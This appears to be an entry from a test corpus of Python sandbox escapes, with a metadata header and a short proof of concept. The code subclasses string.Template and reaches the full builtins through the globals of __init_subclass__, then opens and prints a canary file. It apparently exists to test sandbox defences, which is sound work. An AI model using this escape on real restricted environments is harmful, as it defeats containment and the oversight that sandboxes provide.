# id: string-template-subclass
# family: format-strings
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: a subclass of string.Template inherits functions of a trusted module, globals and the full builtins included
# needs: the string module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import string


class Mine(string.Template):
    delimiter = "%"


hook = Mine.__init_subclass__.__func__
print(hook.__globals__["__builtins__"]["open"]("canary.txt").read())
